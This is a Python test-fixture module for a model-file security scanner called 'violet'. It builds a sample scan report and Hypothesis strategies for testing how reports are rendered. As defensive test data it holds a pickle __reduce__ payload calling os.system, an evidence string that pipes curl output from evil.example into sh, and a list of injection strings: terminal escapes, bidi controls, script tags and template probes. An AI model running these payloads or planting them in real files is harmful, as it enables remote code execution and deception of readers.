"""A fixed report with something of everything, and strategies for reports of any text at all."""

from __future__ import annotations

from hypothesis import strategies as st

from violet.domain import (
    Asset,
    Confidence,
    Cost,
    Decision,
    Digest,
    Failed,
    Finding,
    Location,
    Measurement,
    Report,
    Rule,
    Severity,
    Skipped,
    Stage,
    Verdict,
)
from violet.report import View

CALL = Rule(
    id="artifact/pickle-call",
    title="Loading the file calls a dangerous function",
    severity=Severity.CRITICAL,
    fix="Do not load this file. Ask its publisher for weights in safetensors.",
    techniques=("AML.T0011.000", "AML.T0010.003"),
    cwe=(502,),
    references=("https://docs.python.org/3/library/pickle.html",),
)
HIDDEN = Rule(
    id="artifact/name-mismatch",
    title="The name says one format and the content another",
    severity=Severity.MEDIUM,
    fix="Rename the file, or ask why it was disguised.",
    cwe=(434,),
    cost=Cost.READS_ALL,
)
SECRET = Rule(
    id="supply_chain/secret",
    title="A credential is stored beside the model",
    severity=Severity.HIGH,
    fix="Revoke the credential and remove it from the files.",
    stage=Stage.DEPLOYMENT,
    cwe=(798,),
)
CALL_HELP = """\
Looks for calls that a pickle makes while it is loaded.

## Why it matters

A pickle is a program. `pickle.load` runs it, so **whoever wrote the file** runs code on the machine that
loads it:

- as the user who loads it,
- with that user's credentials.

## Example

```python
class Payload:
    def __reduce__(self):
        return os.system, ("id",)
```

## How to fix it

Keep weights in a format that holds no code.
"""
RULES = {rule.id: rule for rule in (CALL, HIDDEN, SECRET)}
HELPS = {CALL.id: CALL_HELP, HIDDEN.id: "Compares the name with the content."}


def finding(
    rule: Rule,
    path: str,
    message: str,
    evidence: str = "",
    *,
    offset: int | None = None,
    line: int | None = None,
    severity: Severity | None = None,
    confidence: Confidence = Confidence.HIGH,
) -> Finding:
    return Finding(
        rule=rule.id,
        severity=rule.severity if severity is None else severity,
        confidence=confidence,
        message=message,
        location=Location(path, offset, line),
        evidence=evidence,
        fix=rule.fix,
        techniques=rule.techniques,
        key=evidence,
        logical_path=path.removeprefix("models/"),
    )


def sample_report() -> Report:
    trojan = "models/release/classifier.pt"
    inner = f"{trojan}!archive/data.pkl"
    shell = "Loading this file runs a shell command."
    return Report(
        command="scan",
        version="0.1.0",
        assets=(
            Asset(trojan, "torch-zip", 104_857_600, Digest("sha256", "5e" * 32)),
            Asset(inner, "pickle", 2_048),
            Asset("models/copy-1.pkl", "pickle", 310),
            Asset("models/copy-2.pkl", "pickle", 310),
            Asset("models/notes.txt", "text", 90),
            Asset("models/weird!name.gguf", "gguf", 4_096),
            Asset("models/clean.safetensors", "safetensors", 9_216),
        ),
        findings=(
            finding(CALL, inner, shell, "os.system('curl -s https://evil.example/x | sh')", offset=12),
            finding(CALL, inner, "Loading this file evaluates text as code.", "builtins.eval('1+1')", offset=99),
            finding(CALL, "models/copy-1.pkl", shell, "posix.system('id')", offset=3),
            finding(CALL, "models/copy-2.pkl", shell, "posix.system('id')", offset=3),
            finding(SECRET, "models/notes.txt", "An access key is stored here.", "AKIA****************", line=4),
            finding(
                HIDDEN,
                "models/weird!name.gguf",
                "The name announces GGUF and the content is a shell script.",
                "#!/bin/sh",
                confidence=Confidence.MEDIUM,
            ),
            finding(HIDDEN, "models/notes.txt", "The name announces text.", severity=Severity.INFO),
        ),
        skipped=(
            Skipped(Location("models/a.tflite"), "no reader for this format yet", "tflite"),
            Skipped(Location("models/b.tflite"), "no reader for this format yet", "tflite"),
            Skipped(Location("models/big.zip!deep.zip"), "nested deeper than 8 archives"),
        ),
        failed=(Failed(Location("models/locked.pkl"), "Permission denied"),),
        measurements=(Measurement(Location(inner), "pickle.opcodes", 117, "opcodes"),),
        accepted=(finding(SECRET, "models/old.txt", "An access key is stored here.", "AKIA", line=1),),
    )


def sample_view(**changes: object) -> View:
    values: dict[str, object] = {
        "report": sample_report(),
        "decision": Decision(Verdict.DENY, ("5 findings are of severity high or above, which the policy refuses.",), 1),
        "rules": RULES,
        "rule_help": HELPS,
        "command_line": "violet scan models --fail-on high",
        **changes,
    }
    return View(**values)  # type: ignore[arg-type]


def clean_view() -> View:
    report = Report("scan", "0.1.0", assets=(Asset("models/clean.safetensors", "safetensors", 9_216),))
    return View(report, Decision(Verdict.ALLOW), command_line="violet scan models")


def crowded_view(count: int = 500) -> View:
    """Many equal files, and one file with many different findings of one rule."""
    same = "Loading this file runs a shell command."
    copies = [finding(CALL, f"models/run-{n:04}.pkl", same, "os.system('id')", offset=3) for n in range(count)]
    many = [
        finding(CALL, "models/many.pkl", f"Loading this file calls gadget number {n}.", f"g{n}()", offset=n)
        for n in range(count)
    ]
    return View(Report("scan", "0.1.0", findings=(*copies, *many)), Decision(Verdict.DENY, (), 1), RULES)


# Everything that has been used to deceive a reader or break a parser is likely, and so is any character.
_TRICKS = (
    "\x1b[31m", "\x1b]8;;https://evil.example\x07", "\x9b2J", "\r\n", "\n\n# ", "\u202e", "\u2066",
    "\u200b", "\ufeff", "\x00", "\ufffe", "\udc80", "\ud83d\ude00", "\u2028", "[bold]", "[link=file:///]",
    "[/]", "`", "``", "|", "**", "<script>alert(1)</script>", "</style>", "</details>", "<!--", "-->",
    "]]>", "&amp;", "&#x1b;", "[a](https://b.example)", "![a](b)", "@team", "https://evil.example",
    "www.evil.example", "{{ 7*7 }}", "{% raw %}", "{0}", "escaped:", "\\", "\\ud800", "C:\\", "../", "!",
    "a!b", "'", '"', "- ", "1. ", "    ", "\t", "\u6f22\u5b57", "\xe9",
)  # fmt: skip

texts = st.lists(
    st.one_of(st.sampled_from(_TRICKS), st.text(st.characters(categories=None), max_size=6)), max_size=5
).map("".join)
_places = st.none() | st.integers(0, 2**40)
locations = st.builds(Location, texts, _places, st.none() | st.integers(1, 10**6))
digests = st.builds(Digest, texts, texts)
assets = st.builds(Asset, texts, texts, st.integers(0, 2**50), st.none() | digests)
findings = st.builds(
    Finding,
    texts,
    st.sampled_from(Severity),
    st.sampled_from(Confidence),
    texts,
    locations,
    texts,
    texts,
    st.lists(texts | st.just("AML.T0011"), max_size=2).map(tuple),
    texts,
    texts,
)
rules = st.builds(
    Rule,
    texts,
    texts,
    st.sampled_from(Severity),
    texts,
    st.sampled_from(Stage),
    st.lists(texts, max_size=2).map(tuple),
    st.lists(st.integers(1, 2000), max_size=2).map(tuple),
    st.sampled_from(Cost),
    st.lists(texts, max_size=2).map(tuple),
)


def _some(strategy: st.SearchStrategy[object], size: int = 3) -> st.SearchStrategy[tuple[object, ...]]:
    return st.lists(strategy, max_size=size).map(tuple)


reports = st.builds(
    Report,
    texts,
    texts,
    _some(assets),
    _some(findings),
    _some(st.builds(Skipped, locations, texts, texts)),
    _some(st.builds(Failed, locations, texts)),
    _some(st.builds(Measurement, locations, texts, st.floats(allow_nan=False), texts)),
    _some(findings, 2),
)
decisions = st.builds(Decision, st.sampled_from(Verdict), _some(texts, 2), st.integers(0, 3))


@st.composite
def views(draw: st.DrawFn) -> View:
    report: Report = draw(reports)
    known = {found.rule for found in report.findings if draw(st.booleans())}
    declared = {name: draw(rules) for name in sorted(known)}
    return View(
        report,
        draw(decisions),
        declared,
        {name: draw(texts) for name in declared},
        draw(texts),
        draw(st.none() | st.integers(1, 200)),
        draw(st.booleans()),
        draw(st.sampled_from(Severity)),
    )
